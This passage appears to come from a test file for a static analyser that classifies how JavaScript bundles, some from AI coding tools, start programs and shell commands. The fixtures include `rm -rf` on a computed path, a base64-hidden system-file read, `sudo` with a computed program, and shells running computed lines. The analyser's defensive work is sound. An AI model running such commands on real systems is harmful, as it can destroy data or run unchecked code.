      code: 'var A,Ue=(A=function(A){if(typeof require<"u")return require.apply(this,arguments);throw Error("Dynamic require")},typeof require<"u"?require:typeof Proxy<"u"?new Proxy(A,{get:(A,e)=>(typeof require<"u"?require:A)[e]}):A);\nvar t=Ue("child_process");function r(c,a){return t.spawn(c,a)}',
      at: ['t.spawn'],
      evidence: ['call child_process.spawn'],
    },
    { name: 'a pseudo-terminal from node-pty', code: 'import * as pty from "node-pty";const t=pty.spawn("bash",["-l"],{cols:80})', at: ['pty.spawn'], evidence: ['command bash -l'] },
    { name: 'node-pty loaded lazily with import()', code: 'async function f(s){const p=await import("@lydell/node-pty");return p.spawn(s,[],{})}', at: ['p.spawn'] },
    { name: 'node-pty loaded by a name kept in a constant (so that a bundler leaves it out)', code: 'async function f(){const n="node-pty";const p=await import(n);return p.spawn("bash",[],{})}\nfunction g(){const m="node-pty";return require(m).spawn("zsh",[],{})}', at: ['p.spawn', 'require(m).spawn'] },
    { name: "a built-in loaded with import() and a .catch() for browsers (an isomorphic SDK)", code: 'async function h(c){const{exec}=await import("node:child_process").catch(()=>{throw new TypeError("node only")});return exec(c)}', at: ['exec(c)'] },
    {
      name: "execa loaded lazily through an import helper and a cached loader (Mastra's sandbox)",
      code: 'let cached,loading;const load=(m)=>import(m);async function runner(){if(cached)return cached;if(!loading)loading=(async()=>{const r=(await load("execa")).execa;cached=r;return r})();return loading}\nasync function kill(p){await (await runner())("taskkill",["/PID",String(p)])}',
      at: ['(await runner())'],
      allEvidence: ['call execa.execa', 'command taskkill /PID *'],
    },
    { name: 'node-pty member of an awaited import()', code: 'async function f(s){return (await import("node-pty")).spawn(s,[],{})}', at: ['(await'] },
    {
      name: 'a choice between two spelled commands stays low, each command evidence (Qwen Code commandExists)',
      code: 'const{execSync:e}=require("child_process");function has(c){e(process.platform==="win32"?`where.exe ${c}`:`command -v ${c}`,{stdio:"ignore"})}',
      at: ['e(process'],
      severity: 'low',
      allEvidence: ['call child_process.execSync', 'command where.exe *', 'command command -v *', 'shell'],
    },
    {
      name: 'the command a small same-module helper returns (Gemini CLI getCommandExistsCmd)',
      code: 'const{execSync:e}=require("child_process");function q(c){return process.platform==="win32"?`where.exe ${c}`:`command -v ${c}`}\nfunction has(c){e(q(c),{stdio:"ignore"})}',
      at: ['e(q(c)'],
      severity: 'low',
      evidence: ['command command -v *'],
    },
    {
      name: 'a helper that returns a computed command is still computed',
      code: 'const{execSync:e}=require("child_process");function q(c){return `${c} --version`}\nfunction run(c){e(q(c))}',
      at: ['e(q(c))'],
      severity: 'medium',
    },
    {
      name: "a webpack module loaded by id in a factory, used in an inner function whose parameters shadow the factory's (cross-spawn in CodeBuddy)",
      code: 'var m={35317(e){"use strict";e.exports=require("child_process")},91092(e,t,n){"use strict";let u=n(35317),d=n(8147);function spawn(e,t,n){let p=d(e,t,n);return u.spawn(p.command,p.args,p.options)}e.exports=spawn}};',
      at: ['u.spawn'],
      evidence: ['call child_process.spawn'],
    },
    {
      name: 'a command hidden behind a decoding helper is decoded and stays low (systeminformation in Qoder, behind a string table)',
      code: 'const cp=require("child_process");function d(s){return Buffer.from(s,"base64").toString()}function f(){let t=d("Y2F0IC9ldGMvb3MtcmVsZWFzZQ==");cp.exec(t,()=>0);cp.exec(d("Y2F0IC9ldGMvb3MtcmVsZWFzZQ=="),()=>0)}',
      at: ['cp.exec(t', 'cp.exec(d('],
      severity: 'low',
      evidence: ['command cat /etc/os-release'],
    },
    {
      name: 'two calls running one name bound to a call are both reported (tabby-agent execFileSync of a resolved path, twice)',
      code: 'var cp=require("child_process");const bin=path.resolve(__dirname,"roots.exe");cp.execFileSync(bin,[]);cp.execFileSync(bin,["x"])',
      at: ['cp.execFileSync(bin,[]', 'cp.execFileSync(bin,["x"]'],
      evidence: ['call child_process.execFileSync'],
    },
    {
      name: "a program held in a name bound once to a choice of literals (Amp's rg or rg.exe, through promisify)",
      code: 'const{exec:e}=require("child_process"),{promisify:p}=require("util");var iB0=process.platform==="win32"?"rg.exe":"rg";async function v(){return p(e)(`${iB0} --version`)}',
      at: ['p(e)'],
      severity: 'low',
      allEvidence: ['call child_process.exec', 'command rg.exe --version', 'command rg --version', 'shell'],
    },
    {
      name: 'a program held in a constant choice, started with an argument list',
      code: 'const{execFile:f}=require("child_process");const o=w?"open":"xdg-open";function u(x){f(o,[x])}',
      at: ['f(o'],
      severity: 'low',
      allEvidence: ['call child_process.execFile', 'command open *', 'command xdg-open *'],
    },
    {
      name: 'a name given a choice but changed elsewhere, later in the file, stays computed (medium)',
      code: 'const{exec:e}=require("child_process");var r=w?"a":"b";function v(){e(`${r} --version`);e(r)}function s(){r=process.argv[2]}',
      at: ['e(`', 'e(r)'],
      severity: 'medium',
    },
    {
      name: "a wrapper's caller passing a constant choice of commands (Jules's executeCommand(cmd), cmd = isGlobal ? \"npm root -g\" : \"npm root\")",
      code: 'const{exec:x}=require("child_process");function executeCommand(c){return new Promise(r=>x(c,(e,o)=>r(o)))}\nasync function g(isGlobal){const cmd=isGlobal?"npm root -g":"npm root";return executeCommand(cmd)}',
      at: ['x(c', 'executeCommand(cmd)'],
      evidence: ['call child_process.exec', 'command npm root -g'],
      message: /computed at run time|npm root -g or npm root$/,
    },
    // Found reviewing @byterover/cipher and the Claude Agent SDK.
    {
      name: 'a shell started as a program with a computed command line (a bash tool: spawn(shell, ["-c", command])) is a shell command (medium)',
      code: 'const{spawn}=require("child_process");function t(o){const{command:c,shell:s="/bin/bash"}=o;return spawn(s,["-c",c])}function u(c){return spawn("bash",["-lc",c])}function w(c){return spawn("cmd.exe",["/c",c])}',
      at: ['spawn(s', 'spawn("bash"', 'spawn("cmd.exe"'],
      severity: 'medium',
      message: /^Runs a shell command \(child_process\.spawn\) computed at run time$/,
    },
    {
      name: 'a shell given a fixed command line is a fixed shell command (low)',
      code: 'const{spawn}=require("child_process");function f(p){spawn("/bin/sh",["-c","ls -la"]);spawn(p,["-c","uname -a"]);spawn(p,["-Command","[Security.Principal.WindowsIdentity]::GetCurrent().Name"])}',
      at: ['spawn("/bin/sh"', 'spawn(p,["-c"', 'spawn(p,["-C'],
      severity: 'low',
      message: /^Runs a shell command \(child_process\.spawn\): \S/,
    },
    {
      name: 'options between -c and the command line (Claude Code snapshotting the shell: execFile(shell, ["-c", "-l", script]))',
      code: 'const{execFile:x}=require("child_process");async function s(q,j){x(q,["-c","-l",j],{env:{}})}',
      at: ['x(q'],
      severity: 'medium',
    },
    {
      name: "a hook injected by the embedder or the module's spawn (`(options.hostSpawn ?? spawn)(…)`, the Agent SDK starting Claude Code)",
      code: 'import{spawn as X}from"child_process";class P{s(e){return(this.options.hostSpawn??X)(e.command,e.args,{stdio:"pipe"})}}',
      at: ['(this.options'],
      severity: 'low',
      evidence: ['call child_process.spawn'],
    },
    // Qwen Code's SDK: a shell only on Windows, for the .cmd wrapper of a located tool given an argument list.
    {
      name: 'a shell only on Windows for a program started with an argument list (shell: isWindows, a helper testing win32 and .cmd) is a program start (low)',
      code: 'const{spawnSync:s,execFileSync:x}=require("child_process");function w(c){return process.platform==="win32"&&/\\.(?:cmd|bat)$/i.test(c)}function a(p){const isWindows=process.platform==="win32";return s(p,["--install-extension","q"],{shell:isWindows})}function b(p,f){const u=w(p);return x(p,["--animate=off",f],{shell:u})}',
      at: ['s(p', 'x(p'],
      severity: 'low',
      message: /^Starts a program/,
    },
    {
      name: 'a shell everywhere but Windows, or a command line on Windows, is still a shell (medium)',
      code: 'const{spawn:s}=require("child_process");function d(c){return s(c,["x"],{shell:process.platform!=="win32"})}function e(l){return s(l,{shell:process.platform==="win32"})}function f(c,o){return s(c,["x"],{shell:process.platform==="win32"||o.shell})}',
      at: ['s(c,["x"],{shell:process.platform!', 's(l', 's(c,["x"],{shell:process.platform==="win32"||'],
      severity: 'medium',
    },
    {
      name: 'a shell chosen per platform with its command line in a list chosen the same way (medium when the line is computed)',
      code: 'const{spawn:s}=require("child_process");const w=process.platform==="win32";function r(c){return s(w?"cmd.exe":"/bin/sh",w?["/d","/s","/c",c]:["-c",c])}',
      at: ['s(w?'],
      severity: 'medium',
      message: /^Runs a shell command \(child_process\.spawn\) computed at run time$/,
    },
    {
      name: 'a shell chosen per platform given fixed lines is a fixed shell command, its lines shown (low)',
      code: 'const{spawn:s}=require("child_process");const w=process.platform==="win32";function v(){return s(w?"cmd.exe":"sh",w?["/c","ver"]:["-c","uname -a"])}',
      at: ['s(w?'],
      severity: 'low',
      message: /^Runs a shell command \(child_process\.spawn\): ver or uname -a$/,
    },
    {
      name: 'a program chosen per platform given -c is not a shell (git -c key=value)',
      code: 'const{spawn:s}=require("child_process");const w=process.platform==="win32";function g(c){return s(w?"git.exe":"git",w?["-c",c]:["-c",c])}',
      at: ['s(w?'],
      severity: 'low',
      message: /^Starts a program/,
    },
    // Found reviewing the Claude Agent SDK 0.3.337: git located at run time (`e = which("git")`) given config pairs.
    {
      name: 'a program found at run time given -c key=value is a program start, not a shell (git -c core.hooksPath=/dev/null, git -c ${k}=${v})',
      code: 'const{execFile:x}=require("child_process");const E=require("util").promisify(x);async function a(g){await E(g,["-c","core.hooksPath=/dev/null","-c","core.fsmonitor=","worktree","list"])}function b(g,k,v){x(g,["-c",`${k}=${v}`,"status"])}',
      at: ['E(g', 'x(g'],
      severity: 'low',
      message: /^Starts a program/,
    },
    // GitHub Copilot CLI 0.1.36 (OpenTelemetry's Windows host id), from the second review.
    {
      name: 'a command whose leading name is a literal or a literal put in front of itself (t = "cmd.exe /c " + t) has a fixed start (low), each start shown',
      code: 'const{exec}=require("child_process");function a(w){let e="QUERY HKLM /v MachineGuid",t="%windir%\\\\System32\\\\REG.exe";w&&(t="%windir%\\\\sysnative\\\\cmd.exe /c "+t);exec(`${t} ${e}`)}',
      at: ['exec('],
      severity: 'low',
      message: /REG\.exe QUERY HKLM \/v MachineGuid or .*cmd\.exe \/c %win/,
      evidence: ['command %windir%\\sysnative\\cmd.exe /c %windir%\\System32\\REG.exe QUERY HKLM /v MachineGuid'],
    },
    // Amp (fourth review): the $ template it hands plugins, joined with += in a loop, was low with an empty command.
    // Gemini CLI 0.61.0's systeminformation: names reused and appended to.
    {
      name: 'a program name given a suffix with += (pm2, pm2.cmd on Windows) and commands appended after a separator with fixed starts are fixed (low)',
      code: 'const{exec}=require("child_process");function v(w){let cmd="";cmd="pm2";if(w){cmd+=".cmd"}exec(`${cmd} -v`)}function s(list){let cmd=\'cat /proc/stat | grep "cpu "\';for(const p of list){cmd+=";cat /proc/"+p+"/stat"}exec(cmd)}',
      at: ['exec(`', 'exec(cmd)'],
      severity: 'low',
      evidence: ['command pm2* -v', 'command cat /proc/stat | grep "cpu "*'],
    },
    {
      name: 'a line built only from appended commands with fixed starts (printf; smartctl per disk) shows the first and is fixed (low)',
      code: 'const{exec}=require("child_process");function smart(disks){let cmd="";for(const d of disks){cmd+=`printf "\\n${d}|"; smartctl -H ${d} | grep overall;`}exec(cmd)}',
      at: ['exec(cmd)'],
      severity: 'low',
      evidence: ['command printf "\n*|"; smartctl -H * | grep overall;…'],
    },
    // systeminformation's diskLayout in Gemini CLI 0.45.2 (review 81): `cmd = cmd + …` adds as `+=` does.
    {
      name: 'a line built by adding to itself with = (cmd = cmd + …), per disk then once more, from fixed starts is fixed (low), the first command shown',
      code: 'const{exec}=require("child_process");function a(ds,cb){let cmd="";ds.forEach(d=>{cmd=cmd+\'printf "\\n\'+d+\'|"; diskutil info /dev/\'+d+" | grep SMART;"});if(cmd){cmd=cmd+\'printf "\\n"\';exec(cmd,cb)}}',
      at: ['exec(cmd,'],
      severity: 'low',
      evidence: ['diskutil info /dev/* | grep SMART;…'],
    },
    {
      name: 'a line built by adding to itself with = (cmd = cmd + …) from fixed starts is fixed (low)',
      code: 'const{exec}=require("child_process");function smart(ds,cb){let cmd="";ds.forEach(d=>{const B=d.BSDName;cmd=cmd+\'printf "\\n\'+B+\'|"; diskutil info /dev/\'+B+" | grep SMART;"});exec(cmd+\'printf "\\n"\',cb)}',
      at: ['exec(cmd+'],
      severity: 'low',
    },
    {
      name: 'a line added to with += computed text and then with = fixed text is computed (medium); with += fixed starts, fixed (low)',
      code: 'const{exec}=require("child_process");function b(ds,extra,cb){let cmd="";ds.forEach(d=>{cmd+=extra+";"});cmd=cmd+\'printf "\\n"\';exec(cmd,cb)}function c(ds,cb){let cmd="";ds.forEach(d=>{cmd+=`printf "\\n${d}|"; smartctl -H ${d} | grep overall;`});cmd=cmd+\'printf "\\n"\';exec(cmd,cb)}',
      at: ['exec(cmd,cb)}function c', 'exec(cmd,cb)}'],
      message: /computed at run time$|smartctl -H \* \| grep overall;…$/,
    },
    {
      name: 'a line built by adding computed text to itself with = is computed (medium)',
      code: 'const{exec}=require("child_process");function bad(parts,cb){let cmd="";for(const p of parts)cmd=cmd+p+";";exec(cmd,cb)}',
      at: ['exec(cmd,'],
      severity: 'medium',
    },
    // desktop-commander's system-info (review 49): the candidates per platform, chosen by a ?: of two lists.
    {
      name: 'a loop over one of two written lists chosen by a ?: runs one of their elements (low)',
      code: 'const{execSync}=require("child_process");function d(){const cmds=process.platform==="win32"?["python","py"]:["python3","python"];for(const cmd of cmds){try{return execSync(`${cmd} --version`).toString()}catch{}}}',
      at: ['execSync(`'],
      severity: 'low',
      allEvidence: ['command python --version', 'command py --version', 'command python3 --version'],
    },
    {
      name: 'one of two lists, one changed after it is chosen or given by a caller, is computed (medium)',
      code: 'const{execSync}=require("child_process");function d(x){const cmds=x?["python"]:["python3"];cmds.push(x);for(const cmd of cmds)execSync(`${cmd} --version`)}function e(x,y){const cmds=x?["python"]:y;for(const cmd of cmds)execSync(`${cmd} --version`)}',
      at: ['execSync(`', 'execSync(`'],
      severity: 'medium',
    },
    // ccmanager (review 56): a command template with its white space tidied before it runs.
    { name: 'a command template whose spaces are tidied (.replace(/\\s+/g, " ").trim()) keeps its fixed start (low)', code: 'const{execSync}=require("child_process");function r(b,o){const cmd=`git rebase ${(o?.a??[]).join(" ")} "${b}"`.replace(/\\s+/g," ").trim();execSync(cmd)}', at: ['execSync(cmd'], severity: 'low', message: /git rebase \* "\*"$/ },
    { name: 'a command whose words a replace changes is computed (medium)', code: 'const{execSync}=require("child_process");function r(b){const cmd=`git rebase "${b}"`.replace(/git/g,b);execSync(cmd)}', at: ['execSync(cmd'], severity: 'medium' },
    // gemini-mcp-tool (review 57): a CLI run under a pseudo-terminal by script(1), which hands the line to a shell.
    {
      name: 'script -c CMD, -qec CMD and the BSD form script -q FILE /bin/sh -c CMD run a shell command',
      code: 'import{spawn}from"child_process";function a(l){return spawn("script",["-q","-e","-c",l,"/dev/null"])}function b(l){return spawn("script",process.platform==="darwin"?["-q","/dev/null","/bin/sh","-c",l]:["-qec",l,"/dev/null"])}',
      at: ['spawn("script",["-q"', 'spawn("script",process'],
      severity: 'medium',
      message: /^Runs a shell command/,
    },
    { name: 'script(1) recording a fixed program without a shell starts that program (low)', code: 'import{spawn}from"child_process";spawn("script",["-q","/dev/null","top"])', at: ['spawn("script"'], severity: 'low', message: /^Starts a program .*: script -q \/dev\/null top$/ },
    // desktop-commander's terminal manager (review 49): the shell and its -l -c list in an object a helper returns, or shell: in an options variable.
    {
      name: 'a shell from a helper\'s {executable, args: ["-l", "-c", cmd]} or an options variable holding shell: is a shell command (medium)',
      code: 'const{spawn}=require("child_process");function cfg(sh,cmd){return{executable:sh,args:["-l","-c",cmd]}}function run1(cmd,sh){const c=cfg(sh,cmd);return spawn(c.executable,c.args,{})}function run2(cmd,sh,x){let opts;if(x){opts={env:process.env}}else{opts={shell:sh,env:process.env}}return spawn(cmd,[],opts)}',
      at: ['spawn(c.', 'spawn(cmd'],
      severity: 'medium',
      message: /^Runs a shell command/,
    },
    {
      name: 'a program found at run time given other tools\' options before -c, or an options variable with no shell, is a program (low)',
      code: 'const{spawn}=require("child_process");function t(bin,f){return spawn(bin,["-y","-c","copy",f])}function u(cmd){const opts={env:process.env,shell:false};return spawn(cmd,[],opts)}',
      at: ['spawn(bin', 'spawn(cmd'],
      severity: 'low',
      message: /^Starts a program/,
    },
    {
      name: 'a computed command appended after a separator is computed (medium)',
      code: 'const{exec}=require("child_process");function bad(list){let cmd="ls";for(const p of list){cmd+="; "+p}exec(cmd)}',
      at: ['exec(cmd)'],
      severity: 'medium',
    },
    // Fifth review.
    {
      name: 'a += counts only between the value given and the use, a piece may open with a choice of literals, and a loop counter of the same name in an outer block is not the inner name (low)',
      code: 'const{exec}=require("child_process");function a(list,ok){let s="";list.forEach(n=>{s+=`${ok?\'printf ",";\':""}smartctl -a -j ${n};`});exec(s)}function b(win){let cmd;cmd="pm2";if(win)cmd+=".cmd";exec(`${cmd} -v`);cmd="brew";exec(`${cmd} --version`)}function c(n){for(let c=0;c<n;c++){if(n>2){let c="brew --version";exec(c)}}}',
      at: ['exec(s)', 'exec(`${cmd} -v', 'exec(`${cmd} --version', 'exec(c)'],
      severity: 'low',
      evidence: ['command printf ",";smartctl -a -j *;…', 'command pm2* -v', 'command brew --version', 'command brew --version'],
    },
    {
      name: 'text after a command substitution goes on with the command it sits in: a value there is an argument (low)',
      code: 'const{exec}=require("child_process");function a(x){exec(`echo $(date) ${x}`)}function b(x){exec(`echo \\`date\\` ${x}`)}function c(x){exec(`git commit -m "$(date) ${x}"`)}',
      at: ['exec(`echo $', 'exec(`echo \\`', 'exec(`git'],
      severity: 'low',
    },
    {
      name: 'a program after an assignment of a substitution, sudo -u user or timeout -s SIGNAL is computed (medium)',
      code: 'const{exec}=require("child_process");function d(x){exec(`X=$(pwd) ${x}`)}function f(x){exec(`sudo -u root ${x}`)}function g(x){exec(`timeout -s KILL 5 ${x}`)}',
      at: ['exec(`X', 'exec(`sudo', 'exec(`timeout'],
      severity: 'medium',
    },
    {
      name: 'a command built with += from an empty start is computed (medium)',
      code: 'const{exec}=require("child_process");function hut(H){return async(e,...r)=>{let i="";for(let n=0;n<e.length;n++)if(i+=e[n],n<r.length)i+=r[n];return new Promise(n=>{exec(i,{cwd:H},n)})}}',
      at: ['exec(i,'],
      severity: 'medium',
    },
    {
      name: 'a command built with += from a fixed start shows that start (low)',
      code: 'const{exec}=require("child_process");function a(x){let i="git ";i+=x;exec(i)}',
      at: ['exec(i)'],
      severity: 'low',
      evidence: ['command git *'],
    },
    // Kilo Code (third review): Bun Shell templates, as Bun's bundler leaves them.
    {
      name: "Bun Shell templates start programs (Bun quotes each value as one word): through globalThis.Bun destructured, Bun.$ and an import from bun",
      code: 'var {$:L92}=globalThis.Bun;async function r(H){return(await L92`git config --get remote.origin.url`.cwd(H).quiet().nothrow()).text()}async function s(J,Y){await L92`git show ${J}:${Y}`}async function d(p){await Bun.$`rm -rf ${p}`}async function v(c){await Bun.$`${c} --version`}',
      at: ['L92`git config', 'L92`git show', 'Bun.$`rm', 'Bun.$`${c}'],
      severity: 'low',
      evidence: ['command git config --get remote.origin.url', 'command git show *:*', 'command rm -rf *', 'command * --version'],
    },
    {
      name: 'a Bun Shell value given as raw text is shell syntax computed at run time (medium)',
      code: 'import {$} from "bun";export async function x(c){await $`sh -c ${{raw:c}}`}',
      at: ['$`sh'],
      severity: 'medium',
      message: /^Runs a shell command \(Bun\.\$\) computed at run time/,
    },
    {
      name: 'Bun Shell: a value handed to another shell is a shell command computed at run time (medium); a computed program after a separator is a computed program; $ configured in place is still $',
      code: 'import {$} from "bun";export async function a(x){await $`sh -c ${x}`}export async function b(x){await $`echo ${x} && ${x}`}export async function c(x){await $.nothrow()`rm ${x}`}',
      at: ['$`sh', '$`echo', '$.nothrow'],
      evidence: ['shell', 'command echo * && *', 'command rm *'],
      message: /^(?:Runs a shell command \(Bun\.\$\) computed at run time|Starts a program \(Bun\.\$\) computed at run time|Starts a program \(Bun\.\$\): rm \*)$/,
    },
    {
      name: 'Bun Shell: a word the file fixes handed to sh -c is a fixed command (low, shown quoted as Bun quotes it); settings chained before the template, or kept in a name, are still $',
      code: 'import {$} from "bun";const C="echo hi";export async function a(){await $`sh -c ${C}`}export async function c(x){await $.nothrow().quiet()`sh -c ${x}`}const sh=$.cwd("/tmp").nothrow();export async function e(x){await sh`rm -rf ${x}`}',
      at: ['$`sh', '$.nothrow', 'sh`rm'],
      evidence: ['command sh -c "echo hi"', 'shell', 'command rm -rf *'],
    },
    {
      name: 'Bun Shell: a name assigned again later in the file is not fixed (medium)',
      code: 'import {$} from "bun";let C="echo hi";export async function a(){await $`sh -c ${C}`}export function z(v){C=v}',
      at: ['$`sh'],
      severity: 'medium',
    },
    // Amp, Kilo Code and aicommits (third review): a start fixed in every case, read through a choice, helpers' returns or an object's property.
    {
      name: 'a choice of literals in front of the line (open, start or xdg-open per platform) is a fixed start (low), each shown',
      code: 'const{exec}=require("child_process");function o(u){const p=process.platform;exec(`${p==="darwin"?"open":p==="win32"?"start":"xdg-open"} ${JSON.stringify(u)}`)}',
      at: ['exec(`'],
      severity: 'low',
      message: /: open \* or start \* or xdg-open \*$/,
    },
    {
      name: 'a choice of whole commands decided by a constant shows the branch taken; by a name assigned again later, both (low)',
      code: 'const{exec}=require("child_process");const K="linux";function a(){exec(K==="darwin"?"open .":"xdg-open .")}let M="linux";function c(){exec(M==="darwin"?"open .":"xdg-open .")}function d(){M="darwin"}',
      at: ['exec(K', 'exec(M'],
      severity: 'low',
      message: /: (?:xdg-open \.|open \. or xdg-open \.)$/,
      evidence: ['command xdg-open .', 'command open .'],
    },
    {
      name: 'a choice decided by a constant in the file (K = "linux") shows the one branch taken (low)',
      code: 'async function k(X){const{exec:P}=await import("child_process"),K="linux";return P(`${K==="darwin"?"open":K==="win32"?"start":"xdg-open"} "${X}"`)}',
      at: ['P(`'],
      severity: 'low',
      allEvidence: ['call child_process.exec', 'command xdg-open "*"', 'shell'],
    },
    {
      name: "a line built by helpers whose every return starts with a fixed program (Amp's tail | jq | less) is a fixed start (low)",
      // In a module: a script's top-level function may also be called by code the file does not show.
      code: 'import{execSync}from"child_process";function logCmd(kind,pid,o){const sel=`select(.pid == ${pid})`;return `${kind==="snapshot"?`tail -n 10000 ${o.path}`:`tail -f ${o.path}`} | jq -C \'${sel}\'`}function pagerCmd(pid,o,pager){const c=logCmd("snapshot",pid,o);return pager?`${c} | ${pager}`:c}function show(p){const e=pagerCmd(process.pid,{path:p},"less -R +G");execSync(e,{stdio:"inherit"})}',
      at: ['execSync(e'],
      severity: 'low',
      message: /tail -n 10000 \* \| jq -C 'select\(\.pid == \*\)' \| less -R \+G or tail -f/,
    },
    {
      name: "a property of the objects a helper returns, each with a fixed command (aicommits' package-manager update), is a fixed start (low)",
      code: 'const{exec,execSync}=require("child_process");const{promisify}=require("util");const u8=promisify(exec);function c8(e){try{execSync("pnpm --version",{stdio:"ignore"});return{name:"pnpm",updateCommand:`pnpm add -g aicommits@${e}`}}catch{}try{execSync("yarn --version");return{name:"yarn",updateCommand:`yarn global add aicommits@${e}`}}catch{}return{name:"npm",updateCommand:`npm install -g aicommits@${e}`}}async function up(v){const t=c8(v);await u8(t.updateCommand,{timeout:12e4})}',
      at: ['execSync("pnpm', 'execSync("yarn', 'u8(t'],
      severity: 'low',
      evidence: ['command pnpm --version', 'command yarn --version', 'command yarn global add aicommits@*'],
    },
    {
      name: 'every alternative is evidence, up to eight (four package managers, the fourth included)',
      code: 'const{exec}=require("child_process");function d(v){if(a)return{c:`npm i -g x@${v}`};if(b)return{c:`pnpm add -g x@${v}`};if(c)return{c:`yarn global add x@${v}`};return{c:`bun add -g x@${v}`}}function up(v){exec(d(v).c)}',
      at: ['exec('],
      severity: 'low',
      allEvidence: ['call child_process.exec', 'command npm i -g x@*', 'command pnpm add -g x@*', 'command yarn global add x@*', 'command bun add -g x@*', 'shell'],
    },
    // Fourth review: an object the code may change after it is written has no fixed property.
    {
      name: 'a property of an object given to Object.assign, written with a computed key, handed to a function, looped into or appended to stays computed (medium)',
      code: 'const{exec}=require("child_process");function detect(){return{cmd:"npm i"}}function det2(o){const r={cmd:"npm i"};Object.assign(r,o);return r}function det3(o){const r={cmd:"npm i"};r[o.k]=o.v;return r}function mutate(t,v){t.cmd=v}function a(o){exec(det2(o).cmd)}function b(o){exec(det3(o).cmd)}function c(v){const t=detect();mutate(t,v);exec(t.cmd)}function d(v){const t=detect();Object.assign(t,v);exec(t.cmd)}function e(v){const t=detect();for(const k in v)t[k]=v[k];exec(t.cmd)}function f(v){const t=detect();t.cmd+=v;exec(t.cmd)}',
      at: ['exec(det2', 'exec(det3', 'exec(t.cmd)}function d', 'exec(t.cmd)}function e', 'exec(t.cmd)}function f', 'exec(t.cmd)}'],
      severity: 'medium',
    },
    {
      name: 'a shell line with a computed command after its fixed start, or handing computed text to another shell, is computed (medium; systeminformation execWin)',
      code: 'const{exec}=require("child_process");function execWin(cmd,cb){let newCmd="chcp 65001 > nul && cmd /C "+cmd+" && chcp "+cp+" > nul";exec(newCmd,cb)}function b(d,c){exec(`cd ${d} && ${c}`)}function f(d,c){exec(`cd ${d}; ${c} --x`)}',
      at: ['exec(newCmd', 'exec(`cd ${d} &&', 'exec(`cd ${d};'],
      severity: 'medium',
      evidence: ['command chcp 65001 > nul && cmd /C * && chcp * > nul'],
    },
    {
      name: 'a computed program behind an assignment, env, sudo, xargs or timeout, or in a command substitution, is computed (medium)',
      code: 'const{exec}=require("child_process");function a(y){exec(`FOO=1 ${y}`)}function b(y){exec(`env ${y}`)}function c(y){exec(`sudo -E ${y}`)}function d(y){exec(`xargs -0 ${y}`)}function e(y){exec(`git log $(${y})`)}function f(y){exec(`echo \\`${y}\\``)}function g(y){exec(`echo "$(${y})"`)}function h(y){exec(`timeout 5 ${y} --x`)}',
      at: ['exec(`FOO', 'exec(`env', 'exec(`sudo', 'exec(`xargs', 'exec(`git', 'exec(`echo \\`', 'exec(`echo "', 'exec(`timeout'],
      severity: 'medium',
    },
    {
      name: 'a value in a variable assignment, after sudo with a fixed program, or in parentheses inside quotes is an argument (low)',
      code: 'const{exec}=require("child_process");function b(y){exec(`echo "(${y})"`)}function c(y){exec(`FOO=${y} git status`)}function d(y){exec(`sudo git pull ${y}`)}function e(y){exec(`(cd ${y} && make)`)}',
      at: ['exec(`echo', 'exec(`FOO', 'exec(`sudo', 'exec(`(cd'],
      severity: 'low',
    },
    {
      name: 'a shell line whose every command starts fixed is a fixed command (low), also with a separator inside quotes or a redirection',
      code: 'const{exec}=require("child_process");function a(d){exec(`cd ${d} && npm install`)}function b(x){exec(`echo "a | ${x}" > out.txt 2>&1`)}function c(p){exec(`git log ${p} | head -n 5`)}',
      at: ['exec(`cd', 'exec(`echo', 'exec(`git'],
      severity: 'low',
    },
    {
      name: 'a choice with a computed branch, a property written later, an object with a spread, or a helper returning its parameter stays computed (medium)',
      code: 'const{exec}=require("child_process");function a(c,u){exec(`${c?"open":u} x`)}function b(v){const t={cmd:"npm i"};t.cmd=v;exec(t.cmd)}function d(o){const t={cmd:"npm i",...o};exec(t.cmd)}function id(x){return x}function e(v){exec(`${id(v)} -y`)}function f(v){const t=c?{cmd:"ls"}:{cmd:v};exec(t.cmd)}',
      at: ['exec(`${c', 'exec(t.cmd)}function d', 'exec(t.cmd)}function id', 'exec(`${id', 'exec(t.cmd)}'],
      severity: 'medium',
    },
    {
      name: 'a leading name that is a parameter, assigned a computed value, or bound again in a nested function stays computed (medium)',
      code: 'const{exec}=require("child_process");function a(t,w){w&&(t="cmd /c "+t);exec(`${t} x`)}function b(u){let t="ls";t=u;exec(`${t} -la`)}function c(){let t="ls";[1].forEach(()=>{let t=q();exec(`${t} -la`)})}',
      at: ['exec(`${t} x', 'exec(`${t} -la`)}function', 'exec(`${t} -la`)})'],
      severity: 'medium',
    },
    // Qwen Code's relaunch of its .cmd launcher.
    {
      name: "cmd's switches before /c when the program names cmd as a fallback (process.env.ComSpec ?? \"cmd.exe\"): a shell line, computed when its start is (medium)",
      code: 'const{spawnSync:s}=require("child_process");function r(l){return s(process.env.ComSpec??"cmd.exe",["/d","/s","/c",`""${l}""`])}',
      at: ['s(process'],
      severity: 'medium',
      message: /^Runs a shell command/,
    },
    // From a second review: tools found at run time given options before a -c of their own.
    {
      name: 'a program found at run time given options before -c (ffmpeg -y -c copy, a tool --quiet -c file), a script path before -c, or git -c key=${v}, starts a program',
      code: 'const{execFile:x,spawn:s}=require("child_process");function a(bin,ffmpeg,node,git,i,v){x(bin,["--quiet","-c","settings.toml"]);s(ffmpeg,["-y","-c","copy",i]);x(node,["/opt/app/cli.js","-c","x"]);x(git,["-c",`core.sshCommand=${v}`,"fetch"])}',
      at: ['x(bin', 's(ffmpeg', 'x(node', 'x(git'],
      severity: 'low',
      message: /^Starts a program/,
    },
    {
      name: 'a program found at run time given -c and a command line with a space, or a name alone, may be a shell (medium when computed)',
      code: 'const{spawn:s}=require("child_process");function a(sh,c){s(sh,["-c",`${c} --version`])}function b(sh,c){s(sh,["-c",c])}',
      at: ['s(sh,["-c",`', 's(sh,["-c",c'],
      severity: 'medium',
      message: /^Runs a shell command/,
    },
    {
      name: 'a program found at run time given -c and a fixed line with a space is a fixed shell command (low)',
      code: 'const{spawn:s}=require("child_process");function d(sh){s(sh,["-c","FOO=1 ./run"])}',
      at: ['s(sh'],
      severity: 'low',
      message: /^Runs a shell command \(child_process\.spawn\): FOO=1 \.\/run$/,
    },
    // Found reviewing Jules 0.1.42: `const cmd` declared in both branches and passed to a wrapper was "computed" (a false medium with exec).
    {
      name: 'a wrapper given a name declared again in each branch spells the one its block declares',
      code: 'const{execFile:x}=require("child_process");function run(p,a){x(p,a)}function f(g){if(g){const cmd="pnpm";run(cmd,["bin","-g"])}else{const cmd="npm";run(cmd,["root"])}}',
      at: ['x(p', 'run(cmd,["bin"', 'run(cmd,["root"'],
      severity: 'low',
